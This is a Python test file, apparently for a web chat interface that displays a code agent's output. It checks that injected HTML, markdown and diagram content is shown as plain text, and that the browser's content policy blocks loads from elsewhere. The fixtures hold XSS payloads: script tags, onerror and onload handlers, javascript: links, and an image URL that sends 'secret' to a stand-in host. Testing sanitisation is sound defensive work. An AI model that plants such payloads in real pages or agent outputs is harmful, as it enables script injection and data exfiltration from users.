"""What models and tools say is text on the page: it neither runs nor loads anything, and none of it is lost."""

from collections.abc import Callable
from typing import Any

HTML = (
    "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
    '<img src="http://198.51.100.7/i.png"><style>@import url(http://198.51.100.7/s.css);</style>'
    '<iframe src="http://198.51.100.7/f"></iframe><video src="http://198.51.100.7/v.mp4" autoplay></video>'
    '<form action="http://198.51.100.7/"><input name=pw></form><svg onload="document.title=1">'
)
MARKDOWN = (
    "![px](http://198.51.100.7/p.png?d=secret) [click](javascript:document.title='owned') $$\\href{javascript:1}{x}$$"
)
DIAGRAM = (
    '```mermaid\ngraph TD; A@{ img: "http://198.51.100.7/m.png", label: "<img src=http://198.51.100.7/l.png>" }\n```'
)
BAD = f"{HTML} {MARKDOWN}\n\n{DIAGRAM}\n\n- ~~~\n  ```\n  ~~~\n  {HTML}\n"


def test_what_others_write_neither_runs_nor_loads_anything(
    serve_agent: Callable[[str], str], look: Callable[..., Any]
) -> None:
    program = f"""
BAD = {BAD!r} + chr(0xD800)
member = CodeAgent([], ScriptedModel([act("print(BAD)", BAD), act("final_answer(1)")]), name="member", description="x")
member.logger.level = -1
@tool
def fail() -> str:
    \"\"\"Fail.\"\"\"
    raise ValueError(BAD)
printing, answering = act(f"print({{ascii(BAD)}})", BAD), act(f"final_answer({{ascii(BAD)}})")
serve(
    [BAD, printing, act("fail()"), act("member('x')"), answering, ConnectionError(BAD)],
    [fail], managed_agents=[member], planning_interval=10, stream_outputs=True, description="Harmless.",
)
"""
    chat = look(serve_agent(program))
    chat.ask(BAD)
    chat.finished()
    for title in ("Code", "Result", "Error"):
        for number in range(chat.blocks(title).count()):
            chat.open(title, number)
    chat.ask("Fail.")
    chat.finished(2)
    chat.page.wait_for_timeout(1000)
    assert chat.page.title() == "Letter counter"
    inside = "#conversation :is(script, iframe, form, video, object, embed, link, img, [onerror], [onload])"
    assert chat.page.locator(inside).count() == 0
    assert chat.page.locator("style", has_text="198.51.100.7").count() == 0
    assert chat.page.locator("#conversation a[href^=javascript]").count() == 0
    answer = chat.text.rpartition("Final answer")[2]
    for part in (
        "<script>document.title='owned'</script>",
        "![px](http://198.51.100.7/p.png?d=secret)",
        "graph TD",
        "<form",
    ):
        assert part in chat.text.partition("Plan")[0]
        assert part in answer


# Each from a server of its own; the browser tells which it did not ask.
FETCHED = """() => Promise.all(Object.entries({
    img: {src: 'http://198.51.100.1/i.png'},
    script: {src: 'http://198.51.100.2/s.js'},
    link: {rel: 'stylesheet', href: 'http://198.51.100.3/s.css'},
    style: {textContent: '@import url(http://198.51.100.4/i.css)'},
    video: {src: 'http://198.51.100.5/v.mp4'},
    iframe: {src: 'http://198.51.100.6/f'},
    object: {data: 'http://198.51.100.7/o'},
}).map(([tag, attributes], index) => new Promise(found => {
    const refused = event => event.blockedURI.startsWith(`http://198.51.100.${index + 1}`) && found(`${tag} refused`);
    document.addEventListener('securitypolicyviolation', refused);
    document.body.append(Object.assign(document.createElement(tag), attributes));
    setTimeout(() => found(`${tag} asked for`), 30_000);
})))"""


def test_the_browser_itself_refuses_what_lies_elsewhere(serve_agent: Callable[[str], str], chromium: Any) -> None:
    page = chromium.new_page()
    page.set_default_timeout(120_000)
    page.goto(serve_agent("serve([])"))
    page.wait_for_selector("textarea")
    found = page.evaluate(FETCHED)
    page.close()
    assert found == [f"{tag} refused" for tag in ("img", "script", "link", "style", "video", "iframe", "object")]
